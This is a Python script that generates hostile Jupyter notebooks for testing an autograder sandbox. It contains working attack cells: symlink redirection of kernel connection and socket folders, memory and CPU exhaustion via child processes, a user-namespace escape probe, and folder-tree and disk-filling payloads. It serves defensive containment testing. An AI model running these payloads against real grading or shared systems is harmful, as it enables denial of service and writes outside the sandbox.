"""Write the notebooks that attack the sandbox itself (tests/test_containment.py runs them).

Each is the solution notebook with one cell added or one function changed, so everything the
attack does not touch keeps its marks. Safe only under the caps the tests check for first (a
memory cgroup, a cpu cgroup, bubblewrap): never grade this folder by hand.
Run: python tests/files/make_sandbox_files.py
"""

from __future__ import annotations

from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

HERE = Path(__file__).resolve().parent
SOLUTION = HERE.parents[1] / "assignments" / "variational_inference" / "solution.ipynb"
#: In the command line of every busy process of the CPU hog, so a test can count them.
HOG_MARKER = "grader-hostile-cpu-hog"
#: Where the symlink attack points its links: beside the scratch folder, relative to it.
VICTIM = "victim"

#: Swap the sockets folder and the connection file's folder for links to a host folder, then die:
#: a grader that restarts the kernel and writes its connection file through them writes there.
SYMLINK_OVER_SCRATCH = f"""
import glob
import json
import os
from ipykernel import get_connection_file

connection = get_connection_file()
with open(connection) as f:
    sockets = os.path.dirname(json.load(f)["ip"])
for folder in {{os.path.dirname(connection), sockets}}:
    try:
        os.rename(folder, folder + ".old")
    except OSError:
        pass
    try:
        os.symlink("../{VICTIM}", folder)
    except OSError:
        pass
    for name in ["kernel.json", *map(os.path.basename, glob.glob(folder + "/*"))]:
        try:
            path = os.path.join(folder, name)
            if os.path.lexists(path):
                os.rename(path, path + ".old")
            os.symlink("../../{VICTIM}/" + name, path)
        except OSError:
            pass
os._exit(1)
"""

#: RLIMIT_AS is per process and /dev/shm is RAM: a file there and three fresh children, each
#: under the per-process cap, add up to more than the submission's memory.
MEMORY_ACROSS_PROCESSES = """
import subprocess
import sys

_HOGGED = []


def optimal_factor(p_joint, j):
    if not _HOGGED:
        _HOGGED.append(True)
        try:
            with open("/dev/shm/ballast", "wb") as f:
                for _ in range(48):
                    f.write(b"x" * 1024 * 1024)
        except OSError:
            pass
        grow = "b = bytearray(700 * 1024 * 1024); import time; time.sleep(3)"
        children = [subprocess.Popen([sys.executable, "-c", grow]) for _ in range(3)]
        for child in children:
            child.wait()
    p_joint = np.asarray(p_joint, dtype=np.float64)
    axes = tuple(a for a in range(p_joint.ndim) if a != j)
    return p_joint.sum(axis=axes)
"""

#: Fifty busy processes, each in a session of its own, busy for 35 s: they must slow only
#: their own submission.
CPU_HOGS = f"""
import os
import subprocess
import sys
import time

BUSY = "import time\\nend = time.time() + 35\\nwhile time.time() < end:\\n    pass\\n"
for _ in range(50):
    subprocess.Popen([sys.executable, "-c", BUSY, "{HOG_MARKER}"], start_new_session=True)
time.sleep(5)
"""

#: An honest notebook whose entropy costs about 90 ms of CPU per call.
SLOW_ENTROPY = """
import time


def entropy(p):
    start = time.process_time()
    while time.process_time() - start < 0.09:
        pass
    p = np.asarray(p, dtype=np.float64)
    nz = p > 0
    return float(-np.sum(p[nz] * np.log(p[nz])))
"""

#: A nested user namespace would give the code every capability inside it.
NESTED_USER_NAMESPACE = """
import ctypes
import subprocess


def nested_user_namespace():
    \"\"\"1.0 if a new user namespace could be made, by the unshare tool or the syscall.\"\"\"
    try:
        tool = subprocess.run(["unshare", "-Ur", "true"], capture_output=True).returncode == 0
    except OSError:
        tool = False
    clone_newuser = 0x10000000
    call = ctypes.CDLL(None, use_errno=True).unshare(clone_newuser) == 0
    return float(tool or call)
"""

#: In the one host folder a kernel can write (its sockets): a tree 3,000 folders deep, which a
#: recursive removal cannot take down. The depth it reached is printed.
DEEP_FOLDER_TREE = """
import json
import os
from ipykernel import get_connection_file

with open(get_connection_file()) as f:
    here = os.open(os.path.dirname(json.load(f)["ip"]), os.O_RDONLY)
depth = 0
try:
    for depth in range(1, 3001):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
except OSError:
    depth -= 1
print(f"depth {depth}")
"""

#: Fill the sockets folder as fast as it goes: 384 MiB in files under the 64 MiB per-file limit,
#: then 20,000 small files. What it managed is printed.
FILL_SOCKETS_FOLDER = """
import json
import os
from ipykernel import get_connection_file

with open(get_connection_file()) as f:
    sockets = os.path.dirname(json.load(f)["ip"])
written = 0
try:
    for piece in range(6):
        with open(os.path.join(sockets, f"big{piece}"), "wb") as handle:
            for _ in range(64):
                handle.write(b"x" * (1 << 20))
                handle.flush()
                written += 1 << 20
except OSError:
    pass
entries = 0
try:
    for entries in range(20000):
        open(os.path.join(sockets, f"f{entries}"), "wb").close()
except OSError:
    pass
print(f"bytes {written} entries {entries}")
"""


def solution() -> nbformat.NotebookNode:
    return nbformat.read(SOLUTION, as_version=4)


def added(source: str, after: str) -> nbformat.NotebookNode:
    nb = solution()
    index = next(i for i, c in enumerate(nb.cells) if c.get("id") == after)
    nb.cells.insert(index + 1, new_code_cell(source.strip() + "\n", id="added"))
    return nb


def replaced(cell_id: str, source: str) -> nbformat.NotebookNode:
    nb = solution()
    cell = next(c for c in nb.cells if c.get("id") == cell_id)
    cell.source = source.strip() + "\n"
    return nb


FILES = {
    "hostile_symlink_over_scratch": lambda: added(SYMLINK_OVER_SCRATCH, after="entropy"),
    "hostile_memory_across_processes": lambda: replaced("optimal-factor", MEMORY_ACROSS_PROCESSES),
    "hostile_cpu_hogs_in_own_sessions": lambda: added(CPU_HOGS, after="imports"),
    "honest_slow_entropy": lambda: replaced("entropy", SLOW_ENTROPY),
    "hostile_nested_user_namespace": lambda: added(NESTED_USER_NAMESPACE, after="imports"),
    "hostile_deep_folder_tree": lambda: added(DEEP_FOLDER_TREE, after="imports"),
    "hostile_fills_sockets_folder": lambda: added(FILL_SOCKETS_FOLDER, after="imports"),
}


def main() -> None:
    for name, make in FILES.items():
        nbformat.write(make(), HERE / f"{name}.ipynb")
        print(f"wrote {name}.ipynb")


if __name__ == "__main__":
    main()
